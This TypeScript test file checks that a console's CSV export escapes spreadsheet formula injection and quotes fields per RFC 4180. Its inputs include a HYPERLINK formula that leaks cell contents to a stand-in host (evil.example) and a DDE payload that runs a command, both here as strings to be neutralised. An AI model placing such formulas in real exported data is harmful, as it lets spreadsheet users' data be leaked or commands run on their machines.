/**
 * The console's CSV export (src/components/list/csv.ts). Cases from the OWASP "CSV Injection"
 * page (cells starting with = + - @ tab or carriage return are formulas to a spreadsheet and
 * are prefixed with a single quote) and RFC 4180 §2 (fields with commas, quotes or line breaks
 * are quoted, quotes doubled; records end with CRLF). No server.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { csvCell, csvFileName, toCsv } from '../src/components/list/csv';

describe('formula injection', () => {
  const cases: [string, string][] = [
    ['=1+2', "'=1+2"],
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ['+41 22 000 00 00', "'+41 22 000 00 00"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1,2)', `"'@SUM(1,2)"`],
    ['\t=1+2', "'\t=1+2"],
    ['\r=1+2', `"'\r=1+2"`],
  ];
  for (const [raw, out] of cases) {
    test(`${JSON.stringify(raw)} is shown as text`, () => assert.equal(csvCell(raw), out));
  }
  test('a negative number is escaped too (it starts with -)', () => assert.equal(csvCell(-12.5), "'-12.5"));
  test('text with a formula character later is left alone', () => {
    assert.equal(csvCell('a=b'), 'a=b');
    assert.equal(csvCell('user@example.test'), 'user@example.test');
    assert.equal(csvCell(' =1'), ' =1');
  });
});

describe('RFC 4180 quoting', () => {
  test('plain fields stay bare; empty for null and undefined', () => {
    assert.equal(csvCell('Acme v. Doe'), 'Acme v. Doe');
    assert.equal(csvCell(42), '42');
    assert.equal(csvCell(true), 'true');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell(undefined), '');
  });
  test('commas, quotes and line breaks are quoted, quotes doubled', () => {
    assert.equal(csvCell('Doe, John'), '"Doe, John"');
    assert.equal(csvCell('the "Debtor"'), '"the ""Debtor"""');
    assert.equal(csvCell('line 1\nline 2'), '"line 1\nline 2"');
  });
  test('a document: header, rows, CRLF after every record', () => {
    assert.equal(
      toCsv(
        ['Name', 'Amount'],
        [
          ['Acme, Inc.', '1250000.00'],
          ['=cmd', null],
        ],
      ),
      'Name,Amount\r\n"Acme, Inc.",1250000.00\r\n\'=cmd,\r\n',
    );
  });
});

test('file name: the list and the UTC day', () => {
  assert.equal(csvFileName('alerts', new Date('2026-11-28T23:59:00Z')), 'alerts-2026-11-28.csv');
});
